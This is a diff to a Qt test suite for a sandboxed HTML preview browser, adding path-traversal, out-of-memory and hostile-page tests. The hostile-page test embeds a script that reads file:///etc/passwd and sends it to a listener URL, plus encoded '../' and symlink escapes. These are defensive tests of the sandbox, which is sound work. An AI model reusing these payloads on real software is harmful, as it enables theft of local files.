@@ -1,5 +1,7 @@
 #include "widgets/preview_browser.h"
 
+#include <sys/resource.h>
+
 #include <QApplication>
 #include <QDir>
 #include <QElapsedTimer>
@@ -9,9 +11,12 @@
 #include <QWebEngineHistory>
 #include <QRegularExpression>
 #include <QSignalSpy>
+#include <QTcpServer>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QWebEnginePage>
+#include <QWebEngineScript>
+#include <QWebEngineSettings>
 #include <QWebEngineView>
 #include <QWindow>
 #include <memory>
@@ -52,19 +57,29 @@ bool ShowAndWait(PreviewBrowser& browser) {
   return finished.wait(kLoadTimeoutMs) && finished.last().at(0).toBool();
 }
 
-// Runs a script in the page and returns its value (invalid on timeout).
+// Runs a script in the page and returns its value (invalid on timeout): in the page's own
+// world when its scripts may run, else in the application's world, which shares the DOM.
 QVariant RunJs(PreviewBrowser& browser, const QString& script) {
   struct Result {
     bool done = false;
     QVariant value;
   };
   auto result = std::make_shared<Result>();
-  browser.view()->page()->runJavaScript(script, [result](const QVariant& value) {
-    result->value = value;
-    result->done = true;
-  });
+  QWebEnginePage* page = browser.view()->page();
+  const bool page_scripts = page->settings()->testAttribute(QWebEngineSettings::JavascriptEnabled);
+  page->runJavaScript(
+      script, page_scripts ? QWebEngineScript::MainWorld : QWebEngineScript::ApplicationWorld,
+      [result](const QVariant& value) {
+        result->value = value;
+        result->done = true;
+      });
   if (!QTest::qWaitFor([&] { return result->done; }, 10000)) return {};
   return result->value;
+}
+
+// Lets the page's own scripts run; the preview forbids them, some tests need them.
+void AllowPageScripts(PreviewBrowser& browser) {
+  browser.view()->page()->settings()->setAttribute(QWebEngineSettings::JavascriptEnabled, true);
 }
 
 // Polls a script until it yields something other than null (for promise results the page
@@ -111,6 +126,12 @@ class PreviewBrowserTest : public QObject {
   // A disabled browser ignores the mouse and the keyboard.
   void DisabledTakesNoInput();
 
+  // A page the renderer runs out of memory on is reported; the next page shows.
+  void RendererOutOfMemoryIsReportedAndTheNextPageShows();
+
+  // A hostile page reaches nothing outside its folder, even with its scripts let run.
+  void HostilePageReachesNoListener_data();
+  void HostilePageReachesNoListener();
   // Our own Japanese menu; no history to go back to.
   void MenuIsOursAndNoHistoryIsKept();
 
@@ -305,52 +326,45 @@ void PreviewBrowserTest::PreviewUrlNamesTheFile() {
 
 void PreviewBrowserTest::SubresourceRequests_data() {
   QTest::addColumn<QString>("href");
-  QTest::addColumn<QString>("expected");  // "refused" or the file's contents
+  QTest::addColumn<int>("width");  // 3: the image inside, 5: the one outside, 0: refused
 
   // normal
-  QTest::newRow("file in base") << "css/x.txt"
-                                << "inside";
-  QTest::newRow("absolute path") << "/css/x.txt"
-                                 << "inside";
-  QTest::newRow("folded parent") << "img/../css/x.txt"
-                                 << "inside";
+  QTest::newRow("file in base") << "img/x.png" << 3;
+  QTest::newRow("absolute path") << "/img/x.png" << 3;
+  QTest::newRow("folded parent") << "css/../img/x.png" << 3;
+  QTest::newRow("link inside the folder") << "img/inside-link.png" << 3;
   // bad input
-  QTest::newRow("missing") << "css/nope.txt"
-                           << "refused";
-  QTest::newRow("folder") << "css"
-                          << "refused";
-  QTest::newRow("parent, folded to base") << "../secret.txt"
-                                          << "refused";
-  QTest::newRow("encoded slash") << "..%2Fsecret.txt"
-                                 << "refused";
-  QTest::newRow("encoded dots and slash") << "%2E%2E%2Fsecret.txt"
-                                          << "refused";
-  QTest::newRow("deep encoded") << "css/..%2F..%2Fsecret.txt"
-                                << "refused";
-  QTest::newRow("other host") << "yomika://elsewhere/css/x.txt"
-                              << "refused";
+  QTest::newRow("missing") << "img/nope.png" << 0;
+  QTest::newRow("folder") << "img" << 0;
+  QTest::newRow("parent, folded to base") << "../secret.png" << 0;
+  QTest::newRow("encoded slash") << "..%2Fsecret.png" << 0;
+  QTest::newRow("encoded dots and slash") << "%2E%2E%2Fsecret.png" << 0;
+  QTest::newRow("deep encoded") << "img/..%2F..%2Fsecret.png" << 0;
+  QTest::newRow("other host") << "yomika://elsewhere/img/x.png" << 0;
+  QTest::newRow("link leaving the folder") << "img/secret-link.png" << 0;
+  QTest::newRow("file: URL") << "file://SECRET" << 0;
 }
 
 void PreviewBrowserTest::SubresourceRequests() {
   QFETCH(QString, href);
-  QFETCH(QString, expected);
-  QVERIFY(WriteBytes(QDir(base_).filePath(QStringLiteral("css/x.txt")), "inside"));
+  QFETCH(int, width);
+  QImage image(3, 2, QImage::Format_RGB32);
+  image.fill(Qt::red);
+  QVERIFY(image.save(QDir(base_).filePath(QStringLiteral("img/x.png"))));
   // Just outside the base folder, where an escaping path would land.
-  QVERIFY(WriteBytes(QDir(dir_->path()).filePath(QStringLiteral("secret.txt")), "secret"));
-  QVERIFY(WriteCp932(preview_, Page({}, QStringLiteral("<p>x</p>"))));
+  const QString secret = QDir(dir_->path()).filePath(QStringLiteral("secret.png"));
+  QVERIFY(image.scaled(5, 2).save(secret));
+  QVERIFY(QFile::link(secret, QDir(base_).filePath(QStringLiteral("img/secret-link.png"))));
+  QVERIFY(QFile::link(QStringLiteral("x.png"),
+                      QDir(base_).filePath(QStringLiteral("img/inside-link.png"))));
+  href.replace(QStringLiteral("SECRET"), secret);
+  QVERIFY(WriteCp932(preview_, Page({}, QStringLiteral("<img src=\"%1\">").arg(href))));
   PreviewBrowser browser(preview_, base_);
   QVERIFY(ShowAndWait(browser));
-
-  // XMLHttpRequest rather than fetch(): Chromium's fetch() takes no custom schemes.
-  RunJs(browser, QStringLiteral("window.got = null;"
-                                "const request = new XMLHttpRequest();"
-                                "request.onload = () => { window.got = request.status == 200 ?"
-                                "    request.responseText : 'status ' + request.status; };"
-                                "request.onerror = () => { window.got = 'refused'; };"
-                                "request.open('GET', '%1');"
-                                "request.send();")
-                     .arg(href));
-  QCOMPARE(WaitForJs(browser, QStringLiteral("window.got")).toString(), expected);
+  QCOMPARE(WaitForJs(browser, QStringLiteral("document.images[0].complete ?"
+                                             " document.images[0].naturalWidth : null"))
+               .toInt(),
+           width);
 }
 
 void PreviewBrowserTest::MissingPreviewFileFailsToLoad() {
@@ -371,6 +385,7 @@ void PreviewBrowserTest::DisabledTakesNoInput() {
                                     "addEventListener('keydown', () => ++window.keys);</script>"),
                      QStringLiteral("<div style=\"width:100%;height:300px\">x</div>"))));
   PreviewBrowser browser(preview_, base_);
+  AllowPageScripts(browser);
   browser.resize(400, 300);
   browser.show();
   QVERIFY(QTest::qWaitForWindowExposed(&browser));
@@ -413,6 +428,110 @@ void PreviewBrowserTest::DisabledTakesNoInput() {
   QTest::qWait(200);
   QCOMPARE(RunJs(browser, QStringLiteral("[window.clicks, window.keys]")).toList(),
            (QVariantList{2, 2}));
+}
+
+void PreviewBrowserTest::RendererOutOfMemoryIsReportedAndTheNextPageShows() {
+  QVERIFY(WriteCp932(preview_, Page({}, u"<p>小さい</p>"_qs)));
+  PreviewBrowser browser(preview_, base_);
+  QVERIFY(ShowAndWait(browser));
+  // The renderer gets little more address space than it has; the 12 MB page cannot fit.
+  const qint64 pid = browser.view()->page()->renderProcessPid();
+  QFile status(QStringLiteral("/proc/%1/status").arg(pid));
+  QVERIFY(status.open(QIODevice::ReadOnly));
+  const QRegularExpression vm_size(QStringLiteral("VmSize:\\s+(\\d+) kB"));
+  const qint64 kb = vm_size.match(QString::fromLatin1(status.readAll())).captured(1).toLongLong();
+  QVERIFY(kb > 0);
+  const rlimit limit{static_cast<rlim_t>((kb + 8 * 1024) * 1024),
+                     static_cast<rlim_t>((kb + 8 * 1024) * 1024)};
+  if (prlimit(static_cast<pid_t>(pid), RLIMIT_AS, &limit, nullptr) != 0) {
+    QSKIP("cannot limit the renderer's memory here");
+  }
+  QString huge;
+  while (huge.size() < 6'000'000) huge += u"<ruby>漢字<rt>かんじ</rt></ruby>は"_qs;
+  QVERIFY(WriteCp932(preview_, Page({}, huge)));
+  QSignalSpy failed(&browser, &PreviewBrowser::PageFailed);
+  QElapsedTimer timer;
+  timer.start();
+  browser.ShowPreviewFile();
+  QVERIFY(failed.wait(kLoadTimeoutMs));
+  qInfo("renderer ended after %lld ms", static_cast<long long>(timer.elapsed()));
+  QVERIFY(failed.first().at(0).toString().contains(u"プレビューを表示できませんでした"_qs));
+  QVERIFY(QTest::qWaitFor([&] { return !browser.IsBusy(); }, kLoadTimeoutMs));
+
+  QVERIFY(WriteCp932(preview_, Page({}, u"<p>次の変換</p>"_qs)));
+  // The crashed navigation may still report its end first; the new page follows.
+  QSignalSpy finished(&browser, &PreviewBrowser::LoadFinished);
+  browser.ShowPreviewFile();
+  QVERIFY(QTest::qWaitFor([&] { return !finished.isEmpty() && finished.last().at(0).toBool(); },
+                          kLoadTimeoutMs));
+  QCOMPARE(RunJs(browser, QStringLiteral("document.body.textContent.trim()")).toString(),
+           u"次の変換"_qs);
+}
+
+void PreviewBrowserTest::HostilePageReachesNoListener_data() {
+  QTest::addColumn<bool>("scripts_forced_on");
+  QTest::newRow("as configured") << false;
+  QTest::newRow("scripts forced on: the interceptor alone") << true;
+}
+
+void PreviewBrowserTest::HostilePageReachesNoListener() {
+  QFETCH(bool, scripts_forced_on);
+  QTcpServer listener;
+  QVERIFY(listener.listen(QHostAddress::LocalHost));
+  int connections = 0;
+  connect(&listener, &QTcpServer::newConnection, &listener, [&] {
+    while (QTcpSocket* socket = listener.nextPendingConnection()) {
+      ++connections;
+      socket->deleteLater();
+    }
+  });
+  const QString at = QStringLiteral("127.0.0.1:%1").arg(listener.serverPort());
+  QString head = QStringLiteral(
+      "<meta http-equiv=\"refresh\" content=\"1;url=http://AT/refresh\">"
+      "<link rel=\"stylesheet\" href=\"http://AT/css\"><link rel=\"prefetch\" "
+      "href=\"http://AT/pre\">"
+      "<script>"
+      "fetch('http://AT/fetch').catch(() => {});"
+      "const x = new XMLHttpRequest(); x.open('GET', 'http://AT/xhr'); x.send();"
+      "try { new WebSocket('ws://AT/ws'); } catch (e) {}"
+      "navigator.sendBeacon && navigator.sendBeacon('http://AT/beacon', 'x');"
+      "window.open('http://AT/open');"
+      "setTimeout(() => { document.forms[0].submit(); }, 300);"
+      "setTimeout(() => { location.href = 'http://AT/navigate'; }, 600);"
+      "fetch('file:///etc/passwd').then(r => r.text()).then(t => fetch('http://AT/leak?' + t));"
+      "</script>");
+  QString body = QStringLiteral(
+      "<ruby>漢字<rt>かんじ</rt></ruby>"
+      "<img src=\"http://AT/img\"><iframe src=\"http://AT/iframe\"></iframe>"
+      "<iframe src=\"file:///etc/passwd\"></iframe>"
+      "<video src=\"http://AT/video\"></video><object data=\"http://AT/object\"></object>"
+      "<div style=\"background: url(http://AT/background)\">x</div>"
+      "<form action=\"http://AT/form\" method=\"post\"><input name=\"q\" value=\"1\">"
+      "<input type=\"submit\" style=\"position:fixed;left:0;top:0;width:100px;height:40px\"></form>"
+      "<a href=\"http://AT/link\" target=\"_blank\" "
+      "style=\"position:fixed;left:0;top:60px;width:100px;height:40px;display:block\">link</a>"
+      "<a href=\"ws://AT/same\" style=\"position:fixed;left:0;top:120px;width:100px;height:40px;"
+      "display:block\">same</a>");
+  QVERIFY(WriteCp932(preview_, Page(head.replace(QStringLiteral("AT"), at),
+                                    body.replace(QStringLiteral("AT"), at))));
+  PreviewBrowser browser(preview_, base_);
+  if (scripts_forced_on) AllowPageScripts(browser);
+  browser.resize(400, 300);
+  browser.show();
+  QVERIFY(QTest::qWaitForWindowExposed(&browser));
+  QVERIFY(ShowAndWait(browser));
+  // What a reader's clicks do: submit the form, follow the links.
+  QWidget* render = browser.view()->focusProxy();
+  QVERIFY(render != nullptr);
+  for (const int y : {20, 80, 140}) {
+    QTest::mouseClick(browser.windowHandle(), Qt::LeftButton, {},
+                      render->mapTo(&browser, QPoint(20, y)));
+  }
+  QTest::qWait(3000);
+  QCOMPARE(connections, 0);
+  QCOMPARE(browser.view()->url().scheme(), QStringLiteral("yomika"));
+  QCOMPARE(RunJs(browser, QStringLiteral("document.querySelector('rt').textContent")).toString(),
+           u"かんじ"_qs);
 }
 
 void PreviewBrowserTest::MenuIsOursAndNoHistoryIsKept() {
